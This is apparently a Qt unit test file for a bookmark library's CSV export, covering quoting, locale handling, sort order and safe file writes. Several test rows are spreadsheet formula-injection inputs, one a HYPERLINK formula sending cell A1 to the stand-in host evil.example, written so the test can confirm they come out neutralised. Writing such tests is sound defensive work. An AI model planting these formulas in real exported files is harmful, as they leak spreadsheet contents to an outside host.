#include "Fixtures.h"
#include "TestHarness.h"
#include "core/library/ExportService.h"
#include "core/library/MetadataImport.h"

#include <QDir>
#include <QLocale>

#include <limits>

namespace {

const QByteArray header =
    "PDF File,Page Number,Page Span,Bookmark Title,Level,Genre,Style,First Release Year,"
    "Composer,Tempo,Rating,Spotify URL,YouTube URL";

BookmarkEntry entry(const QString &file, qint64 page, const QString &title = QStringLiteral("T"))
{
    BookmarkEntry e = Fixtures::bookmark(QStringLiteral("/books/") + file, page, title);
    e.pdfFileName = file;
    return e;
}

// The lines after the header.
QList<QByteArray> bodyLines(const BookmarkList &list)
{
    return ExportService::csvText(list).split('\n').mid(1);
}

} // namespace

class ExportServiceTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void line_data()
    {
        QTest::addColumn<QString>("title");
        QTest::addColumn<QVariant>("rating"); // invalid: absent
        QTest::addColumn<QVariant>("year");
        QTest::addColumn<QByteArray>("line"); // never the path or the page count
        const QVariant none;
        const double nan = std::numeric_limits<double>::quiet_NaN();
        QTest::newRow("plain") << "T" << none << none << QByteArray("b.pdf,3,1,T,0,,,,,,,,");
        QTest::newRow("empty") << "" << none << none << QByteArray("b.pdf,3,1,,0,,,,,,,,");
        QTest::newRow("comma") << "a,b" << none << none << QByteArray("b.pdf,3,1,\"a,b\",0,,,,,,,,");
        QTest::newRow("quote") << "say \"hi\"" << none << none
                               << QByteArray("b.pdf,3,1,\"say \"\"hi\"\"\",0,,,,,,,,");
        QTest::newRow("line feed") << "1\n2" << none << none << QByteArray("b.pdf,3,1,\"1\n2\",0,,,,,,,,");
        QTest::newRow("carriage return")
            << "1\r2" << none << none << QByteArray("b.pdf,3,1,\"1\r2\",0,,,,,,,,");
        // What a spreadsheet would run gets an apostrophe; an apostrophe of the title's own is kept as is
        // unless the reader would take it for ours.
        QTest::newRow("formula, tab, blanks")
            << "=\t x " << none << none << QByteArray("b.pdf,3,1,'=\t x ,0,,,,,,,,");
        QTest::newRow("link formula")
            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" << none << none
            << QByteArray(
                   "b.pdf,3,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",0,,,,,,,,");
        QTest::newRow("plus") << "+1" << none << none << QByteArray("b.pdf,3,1,'+1,0,,,,,,,,");
        QTest::newRow("minus") << "-x" << none << none << QByteArray("b.pdf,3,1,'-x,0,,,,,,,,");
        QTest::newRow("at") << "@SUM(A1)" << none << none << QByteArray("b.pdf,3,1,'@SUM(A1),0,,,,,,,,");
        QTest::newRow("tab first") << "\tx" << none << none << QByteArray("b.pdf,3,1,'\tx,0,,,,,,,,");
        QTest::newRow("carriage return first")
            << "\rx" << none << none << QByteArray("b.pdf,3,1,\"'\rx\",0,,,,,,,,");
        QTest::newRow("apostrophe before formula")
            << "'=x" << none << none << QByteArray("b.pdf,3,1,''=x,0,,,,,,,,");
        QTest::newRow("own apostrophe")
            << "'Round Midnight" << none << none << QByteArray("b.pdf,3,1,'Round Midnight,0,,,,,,,,");
        QTest::newRow("two apostrophes") << "''=x" << none << none << QByteArray("b.pdf,3,1,'''=x,0,,,,,,,,");
        QTest::newRow("formula sign inside")
            << "a=b-c" << none << none << QByteArray("b.pdf,3,1,a=b-c,0,,,,,,,,");
        QTest::newRow("vertical tab") << "1\v2" << none << none << QByteArray("b.pdf,3,1,\"1\v2\",0,,,,,,,,");
        QTest::newRow("form feed") << "1\f2" << none << none << QByteArray("b.pdf,3,1,\"1\f2\",0,,,,,,,,");
        QTest::newRow("next line") << "1\u00852" << none << none
                                   << QByteArray("b.pdf,3,1,\"1\xc2\x85"
                                                 "2\",0,,,,,,,,");
        QTest::newRow("line separator") << "1\u20282" << none << none
                                        << QByteArray("b.pdf,3,1,\"1\xe2\x80\xa8"
                                                      "2\",0,,,,,,,,");
        QTest::newRow("paragraph separator") << "1\u20292" << none << none
                                             << QByteArray("b.pdf,3,1,\"1\xe2\x80\xa9"
                                                           "2\",0,,,,,,,,");
        QTest::newRow("non-ASCII") << "\u00e9\U0001D11E" << none << none
                                   << QByteArray("b.pdf,3,1,\xc3\xa9\xf0\x9d\x84\x9e,0,,,,,,,,");
        QTest::newRow("4 and a year")
            << "T" << QVariant(4.0) << QVariant(1959) << QByteArray("b.pdf,3,1,T,0,,,1959,,,4.0,,");
        QTest::newRow("0") << "T" << QVariant(0.0) << none << QByteArray("b.pdf,3,1,T,0,,,,,,0.0,,");
        QTest::newRow("rounds") << "T" << QVariant(3.96) << none << QByteArray("b.pdf,3,1,T,0,,,,,,4.0,,");
        QTest::newRow("binary 4.25") << "T" << QVariant(4.25) << none
                                     << QByteArray("b.pdf,3,1,T,0,,,,,,4.2,,");
        QTest::newRow("large, negative") << "T" << QVariant(-1234567.5) << QVariant(-30)
                                         << QByteArray("b.pdf,3,1,T,0,,,-30,,,-1234567.5,,");
        QTest::newRow("not a number") << "T" << QVariant(nan) << none << QByteArray("b.pdf,3,1,T,0,,,,,,,,");
    }

    void line()
    {
        QFETCH(QString, title);
        QFETCH(QVariant, rating);
        QFETCH(QVariant, year);
        QFETCH(QByteArray, line);
        BookmarkEntry e = entry(QStringLiteral("b.pdf"), 3, title);
        e.pdfFilePath = QStringLiteral("/secret/b.pdf");
        e.totalPages = 777;
        if (rating.isValid())
            e.rating = rating.toDouble();
        if (year.isValid())
            e.firstReleaseYear = year.toLongLong();
        // A locale with a decimal comma and digit grouping must not leak into the file.
        QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
        const QByteArray text = ExportService::csvText({e});
        QLocale::setDefault(QLocale::c());
        QCOMPARE(text, header + '\n' + line);
        // and reads back as it was
        const auto records = MetadataImport::parseCSV(text);
        QVERIFY(records && records.value().size() == 1);
        QCOMPARE(records.value().first().title, std::optional(title));
    }

    void emptyListIsHeaderOnly() { QCOMPARE(ExportService::csvText({}), header); }

    void order_data()
    {
        QTest::addColumn<BookmarkList>("input");
        QTest::addColumn<QStringList>("titles"); // in export order
        QTest::newRow("pages numerically")
            << BookmarkList{entry("a.pdf", 10, "p10"), entry("a.pdf", 2, "p2")} << QStringList{"p2", "p10"};
        QTest::newRow("capital Z before small b")
            << BookmarkList{entry("b.pdf", 1, "b"), entry("Z.pdf", 1, "Z"), entry("a.pdf", 1, "a")}
            << QStringList{"Z", "a", "b"};
        // U+FF21 is one UTF-16 unit; U+1D11E is two, starting with D834, yet the larger code point.
        QTest::newRow("supplementary plane after U+FF21")
            << BookmarkList{entry("\U0001D11E.pdf", 1, "clef"), entry("\uFF21.pdf", 1, "fullwidth")}
            << QStringList{"fullwidth", "clef"};
        // Composed, e-acute is U+00E9, after "f"; decomposed it would begin with "e".
        QTest::newRow("composed form decides") << BookmarkList{entry("e\u0301.pdf", 1, "decomposed"),
                                                               entry("f.pdf", 1, "f"), entry("e.pdf", 1, "e")}
                                               << QStringList{"e", "f", "decomposed"};
        QTest::newRow("ties keep their order")
            << BookmarkList{entry("a.pdf", 5, "first"), entry("a.pdf", 1, "one"), entry("a.pdf", 5, "second"),
                            entry("a.pdf", 5, "third")}
            << QStringList{"one", "first", "second", "third"};
    }

    void order()
    {
        QFETCH(BookmarkList, input);
        QFETCH(QStringList, titles);
        QStringList written;
        for (const QByteArray &line : bodyLines(input))
            written << QString::fromUtf8(line.split(',').value(3));
        QCOMPARE(written, titles);
    }

    // A write that fails half-way leaves the previous export whole and says so.
    void writeFile()
    {
        const QString path =
            TestHarness::home() + QStringLiteral("/out/") + ExportService::suggestedFileName();
        const BookmarkList list = Fixtures::realisticLibrary(200);
        QVERIFY(ExportService::writeCSV(path, list));
        const QByteArray written = TestHarness::readFile(path);
        QCOMPARE(written, ExportService::csvText(list));
        {
            TestHarness::FileSizeLimit limit(4096);
            QVERIFY(!ExportService::writeCSV(path, Fixtures::realisticLibrary(500, 2)));
        }
        QCOMPARE(TestHarness::readFile(path), written);
        QCOMPARE(QDir(TestHarness::home() + QStringLiteral("/out")).entryList(QDir::Files).size(), 1);
    }
};

LYRAFOLD_TEST_MAIN(ExportServiceTest)
#include "tst_exportservice.moc"
